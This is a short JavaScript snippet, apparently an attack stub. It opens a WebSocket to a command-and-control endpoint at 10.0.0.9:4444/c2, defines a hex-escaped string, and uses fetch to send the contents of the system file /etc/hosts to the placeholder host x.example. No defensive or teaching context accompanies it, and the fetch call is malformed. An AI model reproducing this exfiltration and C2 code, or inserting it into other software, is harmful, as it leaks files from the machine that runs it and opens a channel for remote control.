const fs = require("fs");
const ws = new WebSocket("ws://10.0.0.9:4444/c2");
const s = "\x68\x65\x6c\x6c\x6f\x21";
fetch("https://x.example/u", { body: fs.readFileSync("/etc/hosts") });
